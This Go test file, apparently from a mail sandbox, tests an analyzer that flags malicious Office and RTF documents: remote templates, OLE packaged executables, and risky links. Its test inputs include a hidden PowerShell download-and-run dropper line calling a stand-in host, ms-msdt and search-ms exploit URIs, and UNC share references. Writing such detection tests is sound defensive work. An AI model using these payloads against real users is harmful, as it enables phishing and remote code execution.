package office

import (
	"bytes"
	"context"
	"encoding/binary"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/airlockmail/airlock/sandboxd/analyzer/internal/rules"
)

func TestParseRTF(t *testing.T) {
	tests := []struct {
		name     string
		rtf      string
		template string
		field    string
		class    string
		data     string
		junk     bool
		flags    string
	}{
		{name: "plain template", rtf: `{\rtf1{\*\template http://x.test/t.dot}}`, template: "http://x.test/t.dot"},
		{name: "hex escapes", rtf: `{\rtf1{\*\template \'68ttp://x.test/\'74.dot}}`, template: "http://x.test/t.dot"},
		{name: "unicode with fallback", rtf: `{\rtf1{\*\template \u104?\u116?tp:\uc2\u47??/x}}`, template: "http://x"},
		{name: "junk groups and words", rtf: `{\rtf1{\*\template ht{\*\zz junk}tp:\foo //x{\*\qq}.test}}`, template: "http://x.test"},
		{name: "line breaks", rtf: "{\\rtf1{\\*\\template htt\r\np://x\n.test}}", template: "http://x.test"},
		{name: "field in nested group", rtf: `{\rtf1{\field{\*\fldinst {\b HYPER}LINK "ms-msdt:/id"}{\fldrslt x}}}`, field: `HYPERLINK "ms-msdt:/id"`},
		{name: "escaped class", rtf: `{\rtf1{\object\objemb\objupdate{\*\objclass \'45quation.3}{\*\objdata 0102}}}`, class: "Equation.3", data: "\x01\x02", flags: "objemb objupdate"},
		{name: "padded objdata", rtf: "{\\rtf1{\\object{\\*\\objdata 01 02\r\n0\t3{\\*\\j 99}04\\bin2 zz05}}}", data: "\x01\x02\x03\x04zz\x05", junk: true},
		{name: "objdata without object", rtf: `{\rtf1{\*\objdata 4142}}`, data: "AB"},
		{name: "unterminated", rtf: `{\rtf1{\*\template http://x`, template: "http://x"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			d := parseRTF([]byte(tc.rtf))
			if got := strings.Join(d.templates, "|"); got != tc.template {
				t.Errorf("template %q, want %q", got, tc.template)
			}
			if got := strings.TrimSpace(strings.Join(d.fields, "|")); got != tc.field {
				t.Errorf("field %q, want %q", got, tc.field)
			}
			var class, data string
			junk := false
			var flags []string
			for _, o := range d.objects {
				class += o.class
				data += string(o.data)
				junk = junk || o.junk
				for _, f := range []string{"objemb", "objupdate", "objautlink", "objlink"} {
					if o.flags[f] {
						flags = append(flags, f)
					}
				}
			}
			if class != tc.class || data != tc.data || junk != tc.junk || strings.Join(flags, " ") != tc.flags {
				t.Errorf("objects: class %q data %q junk %v flags %v; want %q %q %v %q", class, data, junk, flags, tc.class, tc.data, tc.junk, tc.flags)
			}
		})
	}
}

// ole10 builds a Package stream.
func ole10(label, orig string, data []byte, unicode ...string) []byte {
	le := binary.LittleEndian
	p := []byte{2, 0}
	p = append(append(p, label...), 0)
	p = append(append(p, orig...), 0)
	p = append(p, 0, 0, 3, 0)
	tmp := `C:\Temp\` + label + "\x00"
	p = le.AppendUint32(p, uint32(len(tmp)))
	p = append(p, tmp...)
	p = le.AppendUint32(p, uint32(len(data)))
	p = append(p, data...)
	for _, u := range unicode {
		w := utf16.Encode([]rune(u))
		p = le.AppendUint32(p, uint32(len(w)))
		for _, c := range w {
			p = le.AppendUint16(p, c)
		}
	}
	return append(le.AppendUint32(nil, uint32(len(p))), p...)
}

func TestOleNative(t *testing.T) {
	lnk := append([]byte{0x4c, 0, 0, 0, 0x01, 0x14, 0x02, 0x00}, make([]byte, 100)...)
	tests := []struct {
		name string
		data []byte
		want string // a rule that must be there, "" for clean
	}{
		{"text file", ole10("notes.txt", `C:\notes.txt`, []byte("hello")), ""},
		{"exe by name", ole10("setup.exe", `C:\setup.exe`, []byte("x")), "packaged-executable"},
		{"trailing dot and space", ole10("setup.exe. ", `C:\setup.exe. `, []byte("x")), "packaged-executable"},
		{"exe by content", ole10("photo.jpg", `C:\photo.jpg`, []byte("MZ\x90\x00")), "packaged-executable"},
		{"shortcut by content", ole10("invoice.pdf", `C:\invoice.pdf`, lnk), "packaged-shortcut"},
		{"unicode names differ", ole10("a.txt", `C:\a.txt`, []byte("x"), "a.txt.js", `C:\Temp\a.txt.js`, `C:\a.txt.js`), "packaged-executable"},
		{"dropper script in a .txt", ole10("a.txt", `C:\a.txt`, []byte(`CreateObject("WScript.Shell").Run "powershell -w hidden -c iex (iwr http://x.test/a)"`)), "packaged-script"},
		{"truncated data", ole10("a.exe", `C:\a.exe`, []byte("MZ"))[:40], "packaged-executable"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			fs := &rules.Findings{Analyzer: "office"}
			oleNative(tc.data, fs)
			sev, _ := fs.Max()
			found := false
			for _, f := range fs.List() {
				found = found || f.Rule == tc.want
			}
			if tc.want == "" && sev >= rules.Medium || tc.want != "" && !found {
				t.Errorf("findings %+v, want %q", fs.List(), tc.want)
			}
		})
	}
	full := ole10("a.txt", `C:\a.txt`, []byte("data"), "a.txt", "b", "c")
	for n := 0; n <= len(full); n++ { // every cut parses without panic
		parseOle10Native(full[:n])
	}
}

func TestJudgeLinks(t *testing.T) {
	tests := []struct {
		kind, typ, target string
		want              string // a rule at medium or above, "" for none at all
	}{
		{"rel", "hyperlink", "https://www.example.org/", ""},
		{"rel", "hyperlink", "mailto:a@example.org", ""},
		{"rel", "hyperlink", "ms-msdt:/id PCWDiagnostic", "risky-uri-ms-msdt"},
		{"rel", "hyperlink", `\\198.51.100.7\share\x.lnk`, "risky-uri-unc"},
		{"rel", "attachedTemplate", "file:///C:/Templates/Normal.dotm", ""},
		{"rel", "attachedTemplate", `\\198.51.100.7@SSL\DavWWWRoot\t.dotm`, "remote-template"},
		{"rel", "frame", "https://198.51.100.7/f.html", "external-content"},
		{"rel", "image", "https://www.example.org/logo.png", ""},
		{"rel", "image", "file:////198.51.100.7/s/logo.png", "share-media"},
		{"rel", "video", "https://www.example.org/embed/1", ""},
		{"rel", "customXmlProps", `\\198.51.100.7\s\x`, "external-link"},
		{"field", "", `INCLUDEPICTURE "http://www.example.org/a.png" \* MERGEFORMATINET`, ""},
		{"field", "", `INCLUDETEXT "http://198.51.100.7/a.docx"`, "remote-field"},
		{"field", "", `INCLUDEPICTURE "\\\\198.51.100.7\\s\\a.png" \d`, "remote-field"},
		{"field", "", `HYPERLINK \l "_Toc1"`, ""},
		{"field", "", `HYPERLINK "https://www.example.org/"`, ""},
		{"field", "", ` PAGE \* MERGEFORMAT HYPERLINK "search-ms:query=a&crumb=location:\\\\198.51.100.7\\s"`, "risky-uri-search-ms"},
		{"html", "", `<a href="https://www.example.org/">x</a><img src="logo.png">`, ""},
		{"html", "", `<script>location.href = 'ms-msdt:/id PCWDiagnostic /skip force';</script>`, "risky-uri-ms-msdt"},
	}
	for _, tc := range tests {
		fs := &rules.Findings{Analyzer: "office"}
		switch tc.kind {
		case "rel":
			judgeRelationship(tc.typ, tc.target, fs)
		case "field":
			judgeFields(tc.target, fs)
		case "html":
			judgeHTMLLinks(tc.target, fs)
		}
		var got []string
		for _, f := range fs.List() {
			if f.Severity >= rules.Medium {
				got = append(got, f.Rule)
			}
		}
		if tc.want == "" && len(got) > 0 || tc.want != "" && !strings.Contains(" "+strings.Join(got, " ")+" ", " "+tc.want+" ") {
			t.Errorf("%s %s %q: rule %q, want %q (%+v)", tc.kind, tc.typ, tc.target, got, tc.want, fs.List())
		}
	}
}

func TestRelTarget(t *testing.T) {
	for _, tc := range [][3]string{
		{"word/_rels/document.xml.rels", "afchunk.mht", "word/afchunk.mht"},
		{"word/_rels/document.xml.rels", "/word/x.rtf", "word/x.rtf"},
		{"word/_rels/document.xml.rels", "../chunks/a.htm", "chunks/a.htm"},
		{"_rels/.rels", "word/document.xml", "word/document.xml"},
	} {
		if got := relTarget(tc[0], tc[1]); got != tc[2] {
			t.Errorf("relTarget(%q, %q) = %q, want %q", tc[0], tc[1], got, tc[2])
		}
	}
}

// An MHT whose HTML part is base64 and whose header has text before it.
func TestMHTBase64(t *testing.T) {
	html := `<html><body><script>window.location.href="search-ms:query=a&crumb=location:\\\\198.51.100.7@80\\s";</script></body></html>`
	var b bytes.Buffer
	b.WriteString("junk line\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=\"B\"\r\n\r\n--B\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\n")
	enc := make([]byte, 0)
	for _, c := range []byte(b64(html)) {
		enc = append(enc, c)
		if len(enc)%76 == 0 {
			enc = append(enc, '\r', '\n')
		}
	}
	b.Write(enc)
	b.WriteString("\r\n--B--\r\n")
	fs := &rules.Findings{Analyzer: "office"}
	New().judgeImported(context.Background(), b.Bytes(), "afchunk.mht", fs, &result{}, 0)
	sev, _ := fs.Max()
	if sev < rules.High {
		t.Errorf("findings %+v, want a high one", fs.List())
	}
}

func b64(s string) string {
	const tbl = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
	var out []byte
	for i := 0; i < len(s); i += 3 {
		var v uint32
		n := min(3, len(s)-i)
		for k := 0; k < 3; k++ {
			v <<= 8
			if k < n {
				v |= uint32(s[i+k])
			}
		}
		for k := 0; k < 4; k++ {
			if k <= n {
				out = append(out, tbl[v>>(18-6*k)&63])
			} else {
				out = append(out, '=')
			}
		}
	}
	return string(out)
}

func FuzzParseRTF(f *testing.F) {
	for _, s := range []string{`{\rtf1{\*\template \u104?ttp://x}}`, `{\rtf1{\object\objautlink{\*\objclass \'45}{\*\objdata 0105\bin3 abc}}}`,
		`{\rtf1{\field{\*\fldinst INCLUDEPICTURE "\\\\h\\s"}}}`, `{\rt{{{{{\*\objdata 0`} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		d := parseRTF(data)
		total := 0
		for _, o := range d.objects {
			total += len(o.data)
		}
		for _, s := range append(d.templates, d.fields...) {
			if len(s) > maxRTFDestText {
				t.Fatalf("destination text of %d bytes over the bound", len(s))
			}
		}
		if total > len(data) || len(d.objects) > maxObjects || len(d.fields) > maxRTFFields {
			t.Fatalf("output out of proportion: %d object bytes, %d objects from %d bytes", total, len(d.objects), len(data))
		}
		analyzeRTF(context.Background(), data, &rules.Findings{Analyzer: "office"})
	})
}

func FuzzOle10Native(f *testing.F) {
	f.Add(ole10("a.txt", `C:\a.txt`, []byte("hello"), "a.txt", "b", "c"))
	f.Add(ole10("a.exe", `C:\a.exe`, []byte("MZ\x90")))
	f.Fuzz(func(t *testing.T, data []byte) {
		p, _ := parseOle10Native(data)
		if p != nil && len(p.Data) > len(data) {
			t.Fatalf("payload of %d bytes from %d", len(p.Data), len(data))
		}
		oleNative(data, &rules.Findings{Analyzer: "office"})
	})
}
